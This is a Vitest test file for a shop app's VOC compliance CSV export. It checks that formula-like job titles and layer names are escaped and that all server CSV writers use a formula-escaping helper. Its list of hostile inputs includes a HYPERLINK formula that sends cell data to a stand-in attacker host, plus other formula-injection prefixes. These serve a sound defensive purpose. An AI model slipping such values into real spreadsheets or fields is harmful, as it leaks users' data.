import { describe, expect, it } from "vitest";
import { readdirSync, readFileSync, statSync } from "node:fs";
import path from "node:path";
import { eq } from "drizzle-orm";
import { parse } from "csv-parse/sync";
import { makeShop } from "../support/test-app";
import { addMixedBatch } from "../support/batches";
import { jobs, planLayers } from "../../server/db/schema";

/**
 * Spreadsheet programs run a cell that begins with = + - @ (and, in some, tab or carriage return) as a formula.
 * Text a user typed (a job title, a layer name) must reach a CSV as text: a leading apostrophe, as OWASP's
 * "CSV Injection" page advises, which csv-stringify's `escape_formulas` writes.
 */
const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tTabbed", "\rReturned"];

describe("CSV formula injection", () => {
  it("the VOC log writes every cell that could run as a formula as text, and leaves the rest alone", async () => {
    const s = await makeShop();
    const titles = [...HOSTILE, "Tank - candy red"];
    for (const [i, title] of titles.entries()) {
      // Straight into the table: titles typed in the app are trimmed, but a tab or CR can still arrive by other ways.
      const job = i === 0 ? s.jobA : s.db.insert(jobs).values({ customerId: s.customerA.id, title: "x", stage: "in_booth" }).returning().get();
      s.db.update(jobs).set({ title }).where(eq(jobs.id, job.id)).run();
      const sheet = addMixedBatch(s, job.id, { layerKind: "clear", mixedAt: new Date(2026, 10, 3 + i, 9), lines: [{ ml: 1000, vocGPerL: 420, category: "clear" }] });
      s.db.update(planLayers).set({ name: title }).where(eq(planLayers.id, sheet.layerId)).run();
    }
    const csv = await s.as("owner").get("/api/compliance/export.csv?from=2026-11-01&to=2026-11-30");
    expect(csv.status).toBe(200);
    const rows: Record<string, string>[] = parse(csv.text, { columns: true, relax_quotes: true });
    expect(rows.map((r) => r.job_title)).toEqual([...HOSTILE.map((t) => `'${t}`), "Tank - candy red"]);
    expect(rows.map((r) => r.layer)).toEqual([...HOSTILE.map((t) => `'${t}`), "Tank - candy red"]);
    // Numbers stay numbers.
    for (const r of rows) expect(Number(r.voc_g_per_l)).toBeCloseTo(420, 9);
  });

  it("every CSV the server writes goes through toCsv (server/http/csv.ts), which escapes formulas", () => {
    const files = (dir: string): string[] =>
      readdirSync(dir).flatMap((f) => {
        const p = path.join(dir, f);
        return statSync(p).isDirectory() ? files(p) : /\.tsx?$/.test(f) ? [p] : [];
      });
    const root = path.resolve(__dirname, "../..");
    const sources = ["server", "src", "shared"].flatMap((d) => files(path.join(root, d))).map((f) => ({ f: path.relative(root, f), text: readFileSync(f, "utf8") }));
    expect(sources.filter((s) => /csv-stringify/.test(s.text)).map((s) => s.f)).toEqual(["server/http/csv.ts"]);
    const writers = sources.filter((s) => /text\/csv/.test(s.text) && s.f.startsWith("server/"));
    expect(writers.length).toBeGreaterThan(0);
    for (const w of writers) expect(w.text, `${w.f} writes a CSV`).toMatch(/toCsv\(/);
    expect(readFileSync(path.join(root, "server/http/csv.ts"), "utf8")).toMatch(/escape_formulas: true/);
  });
});
